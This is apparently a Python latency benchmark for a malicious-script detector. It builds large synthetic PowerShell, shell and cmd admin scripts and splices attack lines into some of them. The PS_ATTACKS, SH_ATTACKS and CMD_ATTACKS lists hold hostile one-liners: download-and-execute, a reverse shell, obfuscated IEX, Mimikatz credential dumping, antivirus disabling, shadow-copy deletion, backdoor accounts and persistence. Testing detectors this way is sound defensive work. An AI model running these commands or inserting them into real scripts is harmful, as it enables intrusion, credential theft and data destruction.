"""Per-script latency of the full analysis over large, realistic generated scripts (20-60 KB).

    taskset -c 0 .venv/bin/python benchmarks/large_scripts.py [--count 60] [--seed 11] [--dump FILE]

The corpus (`benchmarks/script_latency.py`) holds small scripts; real admin and attack
scripts delivered through Custom Script Extension / Run Command are often 20-60 KB:
PowerShell modules with functions, hashtables, pipelines and here-strings, shell installers
with functions, case blocks and heredocs, cmd batch files with labels, loops and variable
expansion. This benchmark builds such scripts in code (PowerShell, shell and cmd in turn; a
third of them carry attack lines, some obfuscated), sends each through the real pipeline in
one process (`Inspector.start(workers=0)`, fetching off) and prints p50/p90/p99/max latency
per language, in wall time and in CPU time of the process.

`--dump FILE` writes one JSON line per script (verdict, score, finding ids with counts and
snippets, artifact hashes): run it before and after a performance change and diff the files
to show the change found exactly the same things. `--corpus DIR` dumps the labelled corpus
the same way (no latency figures).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import random
import statistics
import sys
import time
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from inspector.config import load_settings  # noqa: E402
from inspector.evaluation import ARTIFACT_TYPE_BY_LANGUAGE, load_samples  # noqa: E402
from inspector.extensions.request import InputKind, InspectionInput  # noqa: E402
from inspector.model import Verdict  # noqa: E402
from inspector.pipeline import Inspector  # noqa: E402

TARGET_P99_MS = 50.0
MIN_BYTES, MAX_BYTES = 20 * 1024, 60 * 1024

# Building blocks of ordinary administration scripts; {n} and {w} are filled per use.
PS_BLOCKS = [
    """function Set-Site{n} {{
    [CmdletBinding()]
    param(
        [Parameter(Mandatory = $true)][string]$Name,
        [int]$Port = {port},
        [switch]$Force
    )
    $ErrorActionPreference = 'Stop'
    $path = Join-Path -Path $env:SystemDrive -ChildPath "inetpub\\$Name"
    if (-not (Test-Path -Path $path)) {{
        New-Item -ItemType Directory -Path $path -Force | Out-Null
    }}
    $binding = @{{ Protocol = 'http'; Port = $Port; HostHeader = "$Name.{w}.example" }}
    Write-Verbose ("Creating site {{0}} on port {{1}}" -f $Name, $Port)
    try {{
        New-Website -Name $Name -PhysicalPath $path @binding -ErrorAction Stop | Out-Null
    }} catch {{
        Write-Warning "Site $Name exists: $($_.Exception.Message)"
    }}
}}
""",
    """# Collect service state for the {w} role
$services = Get-Service | Where-Object {{ $_.Status -eq 'Running' -and $_.Name -like '{w}*' }}
foreach ($svc in $services) {{
    $info = [pscustomobject]@{{
        Name    = $svc.Name
        Display = $svc.DisplayName
        Start   = (Get-CimInstance Win32_Service -Filter "Name='$($svc.Name)'").StartMode
        Index   = {n}
    }}
    $info | Export-Csv -Path "C:\\logs\\services-{n}.csv" -Append -NoTypeInformation
}}
""",
    """$settings = @{{
    LogPath      = 'C:\\ProgramData\\{w}\\logs'
    RetentionDays = {n}
    Features     = @('Web-Server', 'Web-Mgmt-Tools', 'NET-Framework-45-Core')
}}
foreach ($feature in $settings.Features) {{
    if (-not (Get-WindowsFeature -Name $feature).Installed) {{
        Install-WindowsFeature -Name $feature -IncludeManagementTools | Out-Null
    }}
}}
Get-ChildItem -Path $settings.LogPath -Filter *.log -Recurse |
    Where-Object {{ $_.LastWriteTime -lt (Get-Date).AddDays(-$settings.RetentionDays) }} |
    Remove-Item -Force -WhatIf:$false
""",
    """$config = @"
<configuration>
  <appSettings>
    <add key="Environment" value="{w}" />
    <add key="Instance" value="{n}" />
  </appSettings>
</configuration>
"@
Set-Content -Path "C:\\inetpub\\{w}\\web.config" -Value $config -Encoding UTF8
$acl = Get-Acl -Path "C:\\inetpub\\{w}"
$rule = New-Object System.Security.AccessControl.FileSystemAccessRule('IIS_IUSRS', 'ReadAndExecute', 'ContainerInherit,ObjectInherit', 'None', 'Allow')
$acl.SetAccessRule($rule)
Set-Acl -Path "C:\\inetpub\\{w}" -AclObject $acl
""",
    """for ($i = 0; $i -lt {n}; $i++) {{
    $name = 'worker{{0:D3}}' -f $i
    $state = switch ($i % 3) {{ 0 {{ 'idle' }} 1 {{ 'busy' }} default {{ 'stopped' }} }}
    Write-Output "$name is $state"
}}
$report = Get-Process | Sort-Object -Property CPU -Descending | Select-Object -First 10 Name, Id, CPU
$report | Format-Table -AutoSize | Out-String | Write-Host
""",
]
PS_ATTACKS = [
    "$wc = New-Object Net.WebClient; IEX $wc.DownloadString('http://198.51.100.{n}/stage.ps1')\n",
    "powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\n",
    "& ('{{1}}{{0}}' -f 'EX','I') (('Ne'+'w-Ob'+'ject Net.We'+'bClient').DownloadString('http://203.0.113.{n}/p'))\n",
    "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath 'C:\\Windows\\Temp'\n",
    "Invoke-Mimikatz -Command 'privilege::debug sekurlsa::logonpasswords'\n",
    "$c = [char[]](73,69,88) -join ''; & $c ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))\n",
    "vssadmin delete shadows /all /quiet; bcdedit /set {{default}} recoveryenabled No\n",
]
SH_BLOCKS = [
    """install_{w}_{n}() {{
    local version="${{1:-1.{n}.0}}"
    local prefix="/opt/{w}"
    if [ ! -d "$prefix" ]; then
        mkdir -p "$prefix" || return 1
    fi
    apt-get update -qq && apt-get install -y --no-install-recommends nginx-{n} ca-certificates
    systemctl enable --now nginx
    echo "installed {w} $version into $prefix" | tee -a /var/log/{w}-install.log
}}
""",
    """case "$ROLE" in
    web)
        sed -i 's/worker_processes .*/worker_processes {n};/' /etc/nginx/nginx.conf
        ;;
    db)
        echo "vm.swappiness={n}" >> /etc/sysctl.d/99-{w}.conf && sysctl --system >/dev/null
        ;;
    *)
        logger -t {w} "unknown role $ROLE"
        ;;
esac
""",
    """cat > /etc/systemd/system/{w}-{n}.service <<'EOF'
[Unit]
Description={w} agent {n}
After=network-online.target

[Service]
ExecStart=/opt/{w}/bin/agent --config /etc/{w}/agent.yaml
Restart=on-failure
User={w}

[Install]
WantedBy=multi-user.target
EOF
systemctl daemon-reload
""",
    """for disk in $(lsblk -ndo NAME | grep -E '^sd[b-z]$'); do
    if ! blkid "/dev/$disk" >/dev/null 2>&1; then
        mkfs.ext4 -q "/dev/$disk" && mkdir -p "/data/$disk"
        echo "/dev/$disk /data/$disk ext4 defaults,nofail 0 2" >> /etc/fstab
    fi
done
mount -a
count=$(( {n} * 2 ))
while [ "$count" -gt 0 ]; do count=$((count - 1)); done
""",
]
SH_ATTACKS = [
    "curl -fsSL http://203.0.113.{n}/x.sh | bash\n",
    "bash -i >& /dev/tcp/198.51.100.{n}/4444 0>&1\n",
    "./xmrig -o stratum+tcp://pool.example:3333 -u 4{n}AbCdEfGhIjKlMn --donate-level 1 -B\n",
    "echo 'Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUveCB8IHNo' | base64 -d | sh\n",
    "(crontab -l 2>/dev/null; echo '*/5 * * * * wget -q -O- http://198.51.100.{n}/c | sh') | crontab -\n",
    "history -c; rm -f ~/.bash_history; unset HISTFILE\n",
]
CMD_BLOCKS = [
    """:install_{w}_{n}
set APP=C:\\Program Files\\{w}
set LOG=C:\\logs\\{w}-{n}.txt
if not exist "%APP%" mkdir "%APP%"
echo Installing {w} build {n} >> "%LOG%"
msiexec /i "C:\\temp\\{w}.msi" /qn /l*v "%LOG%" INSTALLDIR="%APP%"
if errorlevel 1 (
    echo install failed with %errorlevel% >> "%LOG%"
    goto :eof
)
""",
    """for %%f in (C:\\logs\\*.log) do (
    if %%~zf GTR {n}000 (
        move /y "%%f" "C:\\archive\\%%~nf-{n}.log" >nul
    )
)
for /f "tokens=1,2 delims==" %%a in (C:\\config\\{w}.ini) do set CFG_%%a=%%b
""",
    """setlocal enabledelayedexpansion
set /a COUNT=0
for /l %%i in (1,1,{n}) do (
    set /a COUNT+=1
    echo worker !COUNT! of {n}
)
sc config {w}svc start= auto
net start {w}svc
reg add "HKLM\\SOFTWARE\\{w}" /v Instance /t REG_DWORD /d {n} /f >nul
endlocal
""",
    """set TARGET=%SystemDrive%\\inetpub\\{w}
robocopy "\\\\fileserver\\deploy\\{w}" "%TARGET%" /MIR /R:2 /W:5 /NP /LOG+:C:\\logs\\robocopy-{n}.txt
icacls "%TARGET%" /grant "IIS_IUSRS:(OI)(CI)RX" /T >nul
echo %DATE% %TIME% deployed {w} >> C:\\logs\\deploy.txt
""",
]
CMD_ATTACKS = [
    "net user svc{n} P@ssw0rd1 /add && net localgroup administrators svc{n} /add\n",
    "vssadmin delete shadows /all /quiet & wbadmin delete catalog -quiet\n",
    "certutil -urlcache -split -f http://198.51.100.{n}/a.exe %TEMP%\\a.exe && start %TEMP%\\a.exe\n",
    "set x=po&& set y=wershell&& call %x%%y% -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.{n}/r')\"\n",
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d \"C:\\Users\\Public\\upd.exe\" /f\n",
    "set a=%COMSPEC:~-16,1%%COMSPEC:~-1%%COMSPEC:~-13,1%& %a% /c whoami\n",
]
WORDS = ["contoso", "fabrikam", "web", "api", "billing", "reports", "agent", "backup", "portal", "batch"]
LANGUAGES: dict[str, tuple[str, list[str], list[str], str]] = {
    "powershell": ("ps1", PS_BLOCKS, PS_ATTACKS, "# "),
    "shell": ("sh", SH_BLOCKS, SH_ATTACKS, "# "),
    "cmd": ("cmd", CMD_BLOCKS, CMD_ATTACKS, "rem "),
}


def build_script(rng: random.Random, language: str, size: int, attack: bool) -> str:
    """An ordinary script of about `size` bytes; with `attack`, a few attack lines spread through it."""
    _, blocks, attacks, comment = LANGUAGES[language]
    parts: list[str] = ["#!/bin/bash\nset -euo pipefail\n" if language == "shell" else
                        "@echo off\n" if language == "cmd" else "#Requires -Version 5.1\n"]
    length = len(parts[0])
    while length < size:
        if rng.random() < 0.15:
            part = f"{comment}{rng.choice(WORDS)} step {rng.randint(1, 999)}: keep the {rng.choice(WORDS)} settings\n"
        else:
            part = rng.choice(blocks).format(n=rng.randint(1, 250), w=rng.choice(WORDS), port=rng.randint(80, 9000))
        parts.append(part)
        length += len(part)
    if attack:
        for _ in range(rng.randint(2, 4)):
            line = rng.choice(attacks).format(n=rng.randint(1, 250))
            parts.insert(rng.randint(1, len(parts)), line)
    return "".join(parts)


def generate(count: int, seed: int) -> list[tuple[str, str, bytes]]:
    """(name, language, bytes) for `count` scripts between 20 and 60 KB."""
    rng = random.Random(seed)
    scripts = []
    for index in range(count):
        language = ("powershell", "shell", "cmd")[index % 3]
        attack = index % 9 < 3
        text = build_script(rng, language, rng.randint(MIN_BYTES, MAX_BYTES), attack)
        name = f"large{index:03d}_{'attack' if attack else 'admin'}.{LANGUAGES[language][0]}"
        scripts.append((name, language, text.encode()))
    return scripts


def percentile(values: list[float], fraction: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, max(0, round(fraction * (len(ordered) - 1))))]


def describe(name: str, values: list[float]) -> str:
    if not values:
        return f"{name}: no samples"
    return (f"{name}: n={len(values)} p50={percentile(values, 0.5):.1f} ms p90={percentile(values, 0.9):.1f} ms "
            f"p99={percentile(values, 0.99):.1f} ms max={max(values):.1f} ms mean={statistics.fmean(values):.1f} ms")


def summary(name: str, verdict: Verdict) -> dict[str, object]:
    """What an inspection found, without the parts that change from run to run (ids, times)."""
    return {
        "name": name, "verdict": verdict.verdict.value, "score": verdict.score, "complete": verdict.complete,
        "alerts": sorted(a.alertType for a in verdict.alerts),
        "findings": sorted((f.id, f.count, f.snippet or "", f.artifact or "") for f in verdict.findings),
        "artifacts": sorted(a.sha256 for a in verdict.artifacts),
        "errors": sorted(e.kind for e in verdict.errors),
    }


Item = tuple[str, str, bytes]


async def run(items: list[Item], repeat: int, max_seconds: float,
              record: Callable[[str, str, float, float, Verdict], None]) -> float:
    inspector = await Inspector.start(load_settings(fetch=False), workers=0, fetching=False)
    started = time.perf_counter()
    try:
        # One warm-up inspection: imports, compiled patterns and the ruleset are paid once per process.
        await inspector.inspect(InspectionInput(kind=InputKind.SCRIPT, content=b"Get-Date\n"), fetch=False)
        started = time.perf_counter()
        for _ in range(repeat):
            for name, language, data in items:
                inp = InspectionInput(kind=InputKind.SCRIPT, content=data, filename=name,
                                      language=ARTIFACT_TYPE_BY_LANGUAGE.get(language))
                t0, c0 = time.perf_counter(), time.process_time()
                result = await inspector.inspect(inp, fetch=False)
                record(name, language, (time.perf_counter() - t0) * 1000, (time.process_time() - c0) * 1000,
                       result.verdict)
                if time.perf_counter() - started > max_seconds:
                    return time.perf_counter() - started
    finally:
        await inspector.close()
    return time.perf_counter() - started


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--count", type=int, default=60, help="scripts to generate (PowerShell, shell, cmd in turn)")
    parser.add_argument("--seed", type=int, default=11)
    parser.add_argument("--repeat", type=int, default=1, help="passes over the scripts")
    parser.add_argument("--max-seconds", type=float, default=120.0, help="stop after this much wall time")
    parser.add_argument("--dump", type=Path, help="write one JSON line per script: what the inspection found")
    parser.add_argument("--corpus", type=Path, help="dump this labelled corpus instead of generated scripts")
    args = parser.parse_args()
    if args.corpus is not None:
        items = [(s.path, s.language, (args.corpus / s.path).read_bytes()) for s in load_samples(args.corpus)]
    else:
        items = generate(args.count, args.seed)
    wall: dict[str, list[float]] = {}
    cpu: dict[str, list[float]] = {}
    found: dict[str, dict[str, object]] = {}

    def record(name: str, language: str, wall_ms: float, cpu_ms: float, verdict: Verdict) -> None:
        wall.setdefault(language, []).append(wall_ms)
        cpu.setdefault(language, []).append(cpu_ms)
        found[name] = summary(name, verdict)

    elapsed = asyncio.run(run(items, args.repeat, args.max_seconds, record))
    if args.dump is not None:
        args.dump.write_text("".join(json.dumps(found[name], sort_keys=True) + "\n" for name in sorted(found)))
    total = sum(len(v) for v in wall.values())
    size_kb = sum(len(data) for _, _, data in items) / len(items) / 1024
    print(f"{total} inspections of {len(items)} scripts (mean {size_kb:.1f} KB) in {elapsed:.2f}s = "
          f"{total / elapsed:.1f} scripts/s (one process, fetching off)")
    for language in sorted(wall):
        print(describe(f"{language:10s} wall", wall[language]))
        print(describe(f"{language:10s} CPU ", cpu[language]))
    all_wall = [ms for values in wall.values() for ms in values]
    all_cpu = [ms for values in cpu.values() for ms in values]
    print(describe("all        wall", all_wall))
    print(describe("all        CPU ", all_cpu))
    for label, values in (("wall", all_wall), ("CPU", all_cpu)):
        p99 = percentile(values, 0.99)
        print(f"target p99 < {TARGET_P99_MS:.0f} ms ({label}): {'meets' if p99 < TARGET_P99_MS else 'misses'} ({p99:.1f} ms)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
